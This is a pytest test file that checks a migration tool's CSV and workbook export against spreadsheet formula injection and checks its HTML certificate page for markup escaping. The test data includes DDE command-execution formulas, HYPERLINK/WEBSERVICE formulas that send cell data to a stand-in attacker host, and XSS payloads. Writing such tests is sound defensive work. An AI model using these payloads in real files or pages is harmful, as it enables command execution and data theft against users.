"""S34: words of strangers in the files that people open: a spreadsheet computes nothing, a page runs nothing."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from pilotage.migration.certificate_page import LANGUAGES, certificate_page
from pilotage.migration.look.workbook import write_sheets
from pilotage.migration.quarantine_file import neutralise, restore
from tests.unit.engine.test_certificate_page import a_certificate, counts

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker/"&A1)', '=WEBSERVICE("http://attacker/"&A1)', "=IMPORTXML(A1)", '=DDE("cmd")',
    "\t=1+1", "\r=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "-A1", "+A1", "=",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "</td><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>', "<a href='javascript:alert(1)'>x</a>", "&lt;script&gt;", "<!--",
    "<style>*{display:none}", "'\" onmouseover=alert(1) x=\"", "<iframe src=//attacker>",
]  # fmt: skip
TAG = re.compile(r"<\s*(script|img|svg|a|iframe|style)\b", re.IGNORECASE)


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_s34_a_cell_of_a_csv_file_is_no_formula_and_comes_back_as_it_was(cell):
    written = io.StringIO()
    csv.writer(written).writerow([neutralise(cell)])
    (read,) = next(csv.reader(io.StringIO(written.getvalue(), newline="")))
    assert read.startswith("'")
    assert restore(read) == cell


@pytest.mark.parametrize("cell", ["-12.50", "+86", "13800138000", "华升", "a=b", "'quoted'", "5-3", ""])
def test_what_is_no_formula_stays_as_it_is(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_s34_a_cell_of_a_workbook_is_text(tmp_path, cell):
    write_sheets(tmp_path / "found.xlsx", [("rows", [cell], [[cell, cell]])])
    with zipfile.ZipFile(tmp_path / "found.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "externalLink" in name]
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "hyperlink" not in sheet
    assert sheet.count('t="inlineStr"') + sheet.count('t="s"') == 3


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("word", MARKUP, ids=ascii)
def test_s34_a_page_shows_markup_and_does_not_do_it(language, word):
    plain = certificate_page(a_certificate(), "sha256:1", "2026", language)
    page = certificate_page(
        a_certificate(
            run=word,
            database=word,
            sources=[{"file": word, "encoding": word, "sha256": word}],
            objects=[{"name": word, **counts(read=1, loaded=1)}],
            checks=[{"name": word, "passed": True, "source": word, "target": word, "message": word}],
            groups=[{"check": word, "group": word, "rows": 7, "source": word, "target": word}],
            errors=[{"object": word, "code": word, "column": word, "rows": 15, "line": 9}],
            versions={word: word},
        ),
        word,
        word,
        language,
    )
    assert len(TAG.findall(page)) == len(TAG.findall(plain))
    assert page.count("<") - page.count("</") <= plain.count("<") - plain.count("</") + page.count("<tr") * 2
    assert word not in page.replace("&lt;script&gt;", "") or word == "&lt;script&gt;"
